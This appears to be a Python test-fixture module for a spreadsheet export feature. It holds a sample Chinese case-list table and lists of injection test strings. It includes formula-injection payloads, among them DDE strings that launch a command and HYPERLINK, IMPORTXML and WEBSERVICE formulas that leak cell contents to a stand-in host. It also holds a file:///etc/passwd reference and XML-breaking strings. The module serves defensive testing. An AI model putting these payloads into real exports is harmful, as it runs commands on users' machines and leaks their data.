"""Tables for tests of the export, and texts that a spreadsheet program would run."""

from datetime import date

from console.export.sheet import Column, Kind, Sheet

NOW_US = 1_795_142_537_000_000  # 2026-11-20 10:42:17 in Asia/Shanghai
ID = "440106199001011234"

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)", "=1+1\n", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x0b=1+1", "\x0c=1+1", "\u2028=1+1", "\u2060=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", " ＝1+1", "text\n=1+1", "text\r=1+1", "text\r\n=1+1", "text\n -1+1",
    "text\n\n@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    '=WEBSERVICE("http://example.invalid/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\calc'!''",
    '=IMAGE("http://example.invalid/x.png")', "=1+1,=2+2", '=1+1","=2', "=1;=2", "a;=1+1\n=2", "='file:///etc/passwd'#$A1",
    "=INFO(\"directory\")", "=CELL(\"filename\")", "=NOW()", "=RAND()", "=A1", "=Sheet1!A1", "{=1+1}\n=1", "=1+1'", "-",
    "+86 757 0000 0145", "-4", "+", "=", "@", "\t", "==1", "=\u202e1+1", "=\x001+1",
)  # fmt: skip
"""Sixty and a few. Source: OWASP, CSV Injection, with the ways round its list that are known."""

SMUGGLERS = ('","=1+1', "x;=1+1", "x\t=1+1", 'x";=1+1;"', "x,=1+1", "x|=1+1")
"""Texts that carry a separator, perhaps one of another language, before a formula."""

MARKED_UP = (
    "<r><t>x</t></r>",
    "<r></r></is></c><c r=\"C9\"><f>1+1</f></c><c r=\"D9\" t=\"inlineStr\"><is><r><t>x</t></r>",
    "<t>x</t>", "a & b < c > d \" e ' f", "&amp;", "_x0041_", "_x005F_x0041_", "]]>", "<!-- x -->",
    " x ", "x\ty", "\x01\x1f",
)  # fmt: skip
"""Texts that a writer of XML could take for its own."""

HARMLESS = ("", "正常", "a=b", "440606-2026-0001", "A-1", "(1+1)", "'=1+1", "3 @ 2", "王*", "≈ 11-20", "—", "−4")

SHEET = Sheet(
    title="办件清单",
    columns=(
        Column("办件编号", Kind.CODE, 22),
        Column("事项"),
        Column("件数", Kind.INTEGER, 8),
        Column("比例", Kind.NUMBER, 8),
        Column("期满日", Kind.DATE, 12),
        Column("收件", Kind.INSTANT, 20),
        Column("多久", Kind.DURATION, 10),
    ),
    rows=2,
    filters=("灯:承诺超期", "区域:三水区"),
    holds="2026-11-20 10:42 (Asia/Shanghai)",
    warning="",
    sources=("南海区:47 分无数据", "三水区:3 秒前"),
    zone="Asia/Shanghai",
    made_us=NOW_US,
    made_by="陈立",
)
ROWS = (
    (ID, "建设工程规划许可证核发", 1_234, 0.5, date(2026, 11, 16), NOW_US, 2_820),
    ("0757", None, -4, None, None, None, None),
)


def texts(title: str = "文本") -> Sheet:
    """Return a table of one column of texts and a number beside it."""
    return Sheet(
        title=title,
        columns=(Column("文本"), Column("数", Kind.INTEGER)),
        rows=len(FORMULAS),
        filters=(),
        holds=SHEET.holds,
        warning="",
        sources=(),
        zone=SHEET.zone,
        made_us=NOW_US,
        made_by="陈立",
    )
